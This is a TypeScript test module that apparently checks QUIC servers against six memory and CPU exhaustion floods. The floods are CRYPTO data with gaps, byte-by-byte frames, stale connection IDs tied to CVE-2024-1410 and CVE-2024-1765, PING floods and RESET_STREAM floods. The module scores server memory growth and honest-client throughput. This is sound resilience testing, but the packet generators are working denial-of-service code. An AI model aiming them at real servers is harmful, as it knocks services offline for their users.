import { randomBytes } from 'node:crypto';
import { atLeast, atMost, finding, type Attack, type Finding } from '../attack.js';
import { cryptoFrame, newConnectionIdFrame, pingFrame, resetStreamFrame } from '../raw/frames.js';
import { RawQuic } from '../raw/raw-quic.js';
import { paced } from '../scene/paced.js';
import type { Scene } from '../scene/scene.js';

const ATTACK_SECONDS = 10;
/** What a server may hold more than before: a bounded pile, not one that grows with what is sent. */
const GROWTH_MB = 150;
/** Of what it had, an honest client beside the attack keeps so much; the machine has two cores, the attacker takes one. */
const HONEST_SHARE = 0.3;
const PIECE = Buffer.alloc(1150, 0x41);

/** Packets that cost the receiver's engine memory, or time, before a hello was said. */
type MakePackets = (quic: RawQuic) => () => Buffer;

/** CRYPTO data behind a hole: kept for ever by an engine that waits for the hole to fill (CVE-2024-1765). */
const cryptoBehindAHole: MakePackets = () => {
  let offset = 10_000;
  return () => {
    offset += PIECE.length;
    return cryptoFrame(PIECE, offset);
  };
};

/** One byte a frame, every second one missing: each costs 150 bytes and more for 7 on the wire. */
const oneByteCrypto: MakePackets = () => {
  let offset = 1_000_001;
  return () => fillPacket((bytes, at) => writePiece(bytes, at, [0x06], (offset += 2)));
};

const oneByteStream: MakePackets = () => {
  let offset = 1;
  return () => fillPacket((bytes, at) => writePiece(bytes, at, [0x0e, 0x02], (offset += 2)));
};

/** Connection ids with old numbers, whose retirements are never acknowledged (CVE-2024-1410). */
const oldConnectionIds: MakePackets = (quic) => {
  quic.acknowledges = false;
  quic.send(newConnectionIdFrame(1n << 29n, 1n << 29n, randomBytes(8)));
  let sequence = 3;
  return () => {
    const frames: Buffer[] = [];
    for (let bytes = 0; bytes < 1100; bytes += frames.at(-1)!.length)
      frames.push(newConnectionIdFrame(sequence++, 0, randomBytes(1)));
    return Buffer.concat(frames);
  };
};

/** A packet for each PING: who answers takes as long for 30 bytes as for a full datagram. */
const pings: MakePackets = () => () => pingFrame;

/** RESET_STREAM of one stream again and again, as many as a packet holds. */
const resets: MakePackets = () => {
  const packet = Buffer.concat(Array.from({ length: 280 }, () => resetStreamFrame(2)));
  return () => packet;
};

function fillPacket(write: (bytes: Buffer, at: number) => number): Buffer {
  const bytes = Buffer.alloc(1200);
  let at = 0;
  while (at < 1180) at = write(bytes, at);
  return bytes.subarray(0, at);
}

function writePiece(bytes: Buffer, start: number, head: readonly number[], offset: number): number {
  let at = start;
  for (const byte of head) at = bytes.writeUInt8(byte, at);
  at = bytes.writeUInt32BE((offset | 0x80_00_00_00) >>> 0, at);
  at = bytes.writeUInt8(1, at);
  return bytes.writeUInt8(randomBytes(1)[0]!, at);
}

async function flood(scene: Scene, make: MakePackets, connections: number, rate: number): Promise<Finding[]> {
  const { child, port } = await scene.server();
  const before = await scene.honest('fetch', port, 3);
  const resident = child.residentMb;
  const quics = await Promise.all(Array.from({ length: connections }, () => new RawQuic({ port }).connect()));
  const makers = quics.map((quic) => ({ quic, packet: make(quic) }));
  const beside = scene.honest('fetch', port, ATTACK_SECONDS - 3);
  const sent = await paced({ megabytes: 400, megabytesPerSecond: rate, seconds: ATTACK_SECONDS }, () => {
    const open = makers.filter(({ quic }) => quic.closed === undefined);
    if (open.length === 0) return undefined;
    let bytes = 0;
    for (const { quic, packet } of open) {
      for (let index = 0; index < 8; index++) {
        const frames = packet();
        quic.send(frames);
        bytes += frames.length;
      }
    }
    return bytes;
  });
  const honest = await beside;
  const refused = quics.filter(({ closed }) => closed !== undefined).length;
  for (const quic of quics) quic.destroy();
  return [
    finding('the server', child.ending, 'alive', !child.ended),
    atMost(
      `memory that ${Math.round(sent / 1e6)} MB took (${refused} of ${connections} closed)`,
      child.maxResidentMb - resident,
      GROWTH_MB,
      'MB',
    ),
    atLeast(
      `an honest client beside it (${before.megabitsPerSecond.toFixed(0)} Mbit/s without)`,
      honest.megabitsPerSecond,
      before.megabitsPerSecond * HONEST_SHARE,
      'Mbit/s',
    ),
  ];
}

function attack(name: string, about: string, make: MakePackets, connections: number, rate: number): Attack {
  return { name, about, quick: false, run: (scene) => flood(scene, make, connections, rate) };
}

export const engineMemory: readonly Attack[] = [
  attack('crypto-hole', 'A client sends CRYPTO data behind a hole that it never fills.', cryptoBehindAHole, 1, 40),
  attack('crypto-bytes', 'Four clients send CRYPTO data byte by byte, with holes.', oneByteCrypto, 4, 15),
  attack('stream-bytes', 'Four clients send QUIC stream data byte by byte, with holes.', oneByteStream, 4, 15),
  attack('connection-ids', 'A client sends old connection ids and acknowledges nothing.', oldConnectionIds, 1, 2),
  attack('quic-pings', 'A client sends nothing but PING, each in a packet of its own.', pings, 1, 40),
  attack('quic-resets', 'A client resets one stream, 280 times a packet.', resets, 1, 40),
];
